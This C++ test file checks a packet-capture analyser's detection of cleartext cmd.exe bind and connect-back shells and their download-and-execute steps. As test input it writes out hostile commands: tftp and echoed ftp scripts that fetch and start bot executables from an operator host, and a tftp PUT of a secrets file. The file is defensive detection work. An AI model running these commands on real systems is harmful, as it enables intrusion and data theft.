// Cleartext remote shells: what opens as one, how typed lines become fetches and starts, and
// bind and connect-back sessions on generated captures through the real engine, down to the
// download-and-execute behaviour; other protocols on the same ports are no shell.

#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "analysis/detect/behavior.h"
#include "analysis/engine.h"
#include "analysis/proto/shell/shell_parser.h"
#include "support/pcapgen.h"

namespace test_shell {

using namespace botscope::analysis;
using namespace botscope::analysis::shell;
using namespace botscope::testing;
using botscope::analysis::detect::BehaviorResult;
using botscope::analysis::detect::RemoteShell;

namespace {

Opening opening(std::string_view s) {
    return classify_opening(bytes_of(s));
}

const std::string kXpBanner =
    "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n"
    "C:\\WINDOWS\\system32>";

struct Analysis {
    NetworkResult net;
    BehaviorResult behavior;
};

Analysis analyze(const CaptureWriter& w) {
    Engine e(kLinkEthernet);
    Analysis a;
    for (const auto& f : w.frames())
        e.process(f.ts, f.data, f.wire_len);
    a.net = e.finish(&a.behavior);
    return a;
}

/// The operator types each line; the shell echoes a prompt back after each.
void session(TcpConversation& c, Direction shell, const std::vector<std::string>& typed) {
    const Direction op = shell == Direction::kOrig ? Direction::kResp : Direction::kOrig;
    c.send(shell, kXpBanner);
    for (const auto& line : typed) {
        c.send(op, line + "\r\n");
        c.send(shell, "\r\n" + line + "\r\nsome output\r\n\r\nC:\\WINDOWS\\system32>");
    }
}

}  // namespace

TEST_CASE("shell openings: banners of every era and bare prompts; prefixes wait") {
    CHECK(opening(kXpBanner) == Opening::kShell);
    CHECK(opening("Microsoft Windows 2000 [Version 5.00.2195]\r\n") == Opening::kShell);
    CHECK(opening("Microsoft Windows [Version 6.1.7601]\r\n") == Opening::kShell);
    CHECK(opening("\r\nC:\\WINNT\\system32>") == Opening::kShell);
    CHECK(opening("D:\\>") == Opening::kShell);
    CHECK(opening("Micro") == Opening::kPartial);
    CHECK(opening("Microsoft Windows XP [Vers") == Opening::kPartial);
    CHECK(opening("C:\\WINDOWS") == Opening::kPartial);
    CHECK(opening("") == Opening::kPartial);
    CHECK(opening("Microsoft Windows Media Player\r\n") == Opening::kOther);
    CHECK(opening("GET / HTTP/1.1\r\n") == Opening::kOther);
    CHECK(opening("220 mail.example ESMTP\r\n") == Opening::kOther);
    CHECK(opening("C:\\x\ny>") == Opening::kOther);
    CHECK(opening(std::string(300, 'C')) == Opening::kOther);
}

TEST_CASE("typed lines: tftp, an echoed ftp script, start, chains and quotes") {
    auto a = parse_line("tftp -i 10.66.0.5 GET msblast.exe");
    REQUIRE(a.size() == 1);
    CHECK(a[0].kind == Action::Kind::kFetch);
    CHECK(a[0].tool == "tftp");
    CHECK(a[0].host == "10.66.0.5");
    CHECK(a[0].file == "msblast.exe");

    a = parse_line(
        "TFTP.EXE -i 10.66.0.5 get bot.exe c:\\windows\\sys.exe & start c:\\windows\\sys.exe");
    REQUIRE(a.size() == 2);
    CHECK(a[0].file == "c:\\windows\\sys.exe");  // the destination, when given
    CHECK(a[1].kind == Action::Kind::kStart);
    CHECK(a[1].tool == "start");
    CHECK(file_key(a[1].file) == "sys.exe");

    a = parse_line(
        "echo open 10.66.0.5 21 > o&echo user x y >> o &&echo get bot.exe>>o & ftp -n -s:o");
    REQUIRE(a.size() == 3);
    CHECK(a[0].kind == Action::Kind::kFtpScript);
    CHECK(a[0].script == "o");
    CHECK(a[0].host == "10.66.0.5");
    CHECK(a[1].kind == Action::Kind::kFtpScript);
    CHECK(a[1].file == "bot.exe");
    CHECK(a[2].kind == Action::Kind::kFetch);
    CHECK(a[2].tool == "ftp");
    CHECK(a[2].script == "o");

    a = parse_line("start \"\" /min \"C:\\Program Files\\x y.exe\" -q");
    REQUIRE(a.size() == 1);
    CHECK(a[0].file == "C:\\Program Files\\x y.exe");
    a = parse_line("bot.exe -install");
    REQUIRE(a.size() == 1);
    CHECK(a[0].tool == "run");
    CHECK(parse_line("dir c:\\ & net user & echo hello").empty());
    CHECK(parse_line("tftp -i 10.66.0.5 PUT secrets.txt").empty());
    CHECK(parse_line("echo \"a & b\" > x").empty());
}

TEST_CASE("a bind shell on 4444: the operator's commands, a tftp fetch then started") {
    CaptureWriter w;
    TcpConversation c(w, ep("10.66.0.5", 3001), ep("10.66.0.10", 4444), kT0);
    c.handshake();
    session(c, Direction::kResp,
            {"tftp -i 10.66.0.5 GET msblast.exe", "", "start msblast.exe", "exit"});
    c.close();
    auto a = analyze(w);
    REQUIRE(a.net.shell.sessions.size() == 1);
    const auto& s = a.net.shell.sessions[0];
    CHECK(s.shell == ep("10.66.0.10", 4444));
    CHECK(s.operator_ == ep("10.66.0.5", 3001));
    CHECK_FALSE(s.connect_back);
    CHECK(s.banner == "Microsoft Windows XP [Version 5.1.2600]");
    REQUIRE(s.commands.size() == 3);  // the empty line is no command
    CHECK(s.commands[0].text == "tftp -i 10.66.0.5 GET msblast.exe");
    CHECK(s.commands[1].text == "start msblast.exe");
    CHECK(s.commands[2].text == "exit");
    CHECK(s.output_bytes > kXpBanner.size());

    REQUIRE(a.behavior.remote_shells.size() == 1);
    const RemoteShell& r = a.behavior.remote_shells[0];
    CHECK(r.commands == 3);
    REQUIRE(r.fetches.size() == 1);
    CHECK(r.fetches[0].tool == "tftp");
    CHECK(r.fetches[0].host == "10.66.0.5");
    CHECK(r.fetches[0].file == "msblast.exe");
    CHECK(r.started == std::vector<std::string>{"msblast.exe"});
    CHECK(r.download_execute);
}

TEST_CASE("a connect-back shell on any port: an echoed ftp script, fetched and started") {
    CaptureWriter w;
    // The victim's cmd.exe connects out to its operator's listener and speaks first.
    TcpConversation c(w, ep("10.66.0.10", 1042), ep("10.66.0.5", 8080), kT0);
    c.handshake();
    session(c, Direction::kOrig,
            {"echo open 10.66.0.5 21 > o", "echo user anonymous x >> o", "echo binary >> o",
             "echo get wormride.exe >> o", "echo bye >> o", "ftp -n -v -s:o", "WORMRIDE.EXE"});
    c.close();
    auto a = analyze(w);
    REQUIRE(a.net.shell.sessions.size() == 1);
    CHECK(a.net.shell.sessions[0].connect_back);
    CHECK(a.net.shell.sessions[0].shell == ep("10.66.0.10", 1042));
    REQUIRE(a.behavior.remote_shells.size() == 1);
    const RemoteShell& r = a.behavior.remote_shells[0];
    CHECK(r.connect_back);
    CHECK(r.commands == 7);
    REQUIRE(r.fetches.size() == 1);
    CHECK(r.fetches[0].tool == "ftp");
    CHECK(r.fetches[0].host == "10.66.0.5");
    CHECK(r.fetches[0].file == "wormride.exe");
    CHECK(r.started == std::vector<std::string>{"WORMRIDE.EXE"});
    CHECK(r.download_execute);
}

TEST_CASE("a shell whose operator only looks around is a shell without download and execute") {
    CaptureWriter w;
    TcpConversation c(w, ep("10.66.0.5", 3002), ep("10.66.0.10", 4444), kT0);
    c.handshake();
    session(c, Direction::kResp, {"dir", "start notepad.exe", "tftp -i 10.66.0.5 GET x.exe"});
    c.close();
    auto a = analyze(w);
    REQUIRE(a.behavior.remote_shells.size() == 1);
    CHECK(a.behavior.remote_shells[0].fetches.size() == 1);
    CHECK_FALSE(a.behavior.remote_shells[0].download_execute);  // started before, and another
}

TEST_CASE("limits: long lines are cut and flagged, commands past the cap counted") {
    CaptureWriter w;
    TcpConversation c(w, ep("10.66.0.5", 3003), ep("10.66.0.10", 4444), kT0);
    c.handshake();
    std::vector<std::string> typed(kMaxCommands + 10, "dir");
    typed[0] = std::string(kMaxCommandLength + 100, 'A');
    session(c, Direction::kResp, typed);
    c.close();
    auto a = analyze(w);
    REQUIRE(a.net.shell.sessions.size() == 1);
    const auto& s = a.net.shell.sessions[0];
    CHECK(s.commands.size() == kMaxCommands);
    CHECK(s.commands_dropped == 10);
    CHECK(s.commands[0].truncated);
    CHECK(s.commands[0].text.size() == kMaxCommandLength);
    CHECK(s.commands[1].text == "dir");
    CHECK(a.net.weirds.count("shell_command_too_long") == 1);
    CHECK(a.net.weirds.count("shell_command_limit") == 1);
    CHECK(a.behavior.remote_shells[0].commands == kMaxCommands + 10);
}

TEST_CASE("HTTP, SMTP and a client that speaks first on 4444 are no shells") {
    CaptureWriter w;
    TcpConversation h(w, ep("10.66.0.10", 3100), ep("10.66.0.5", 4444), kT0);
    h.handshake();
    h.send(Direction::kOrig, "GET / HTTP/1.0\r\n\r\n");
    h.send(Direction::kResp, "HTTP/1.0 200 OK\r\n\r\nC:\\>");
    h.close();
    TcpConversation m(w, ep("10.66.0.10", 3101), ep("10.66.0.6", 25), kT0 + kSecond);
    m.handshake();
    m.send(Direction::kResp, "220 mx ESMTP\r\n");
    m.send(Direction::kOrig, "QUIT\r\n");
    m.close();
    TcpConversation o(w, ep("10.66.0.10", 3102), ep("10.66.0.7", 4444), kT0 + 2 * kSecond);
    o.handshake();
    o.send(Direction::kOrig, "hello\r\n");
    o.send(Direction::kResp, "C:\\WINDOWS\\system32>");
    o.close();
    auto a = analyze(w);
    CHECK(a.net.shell.sessions.empty());
    CHECK(a.behavior.remote_shells.empty());
}

TEST_CASE("shell weirds: named shell_*, described, distinct") {
    for (std::size_t i = 0; i < kWeirds.size(); ++i) {
        CHECK(kWeirds[i].name.substr(0, 6) == "shell_");
        CHECK_FALSE(kWeirds[i].description.empty());
        for (std::size_t j = i + 1; j < kWeirds.size(); ++j)
            CHECK(kWeirds[i].name != kWeirds[j].name);
    }
}

}  // namespace test_shell
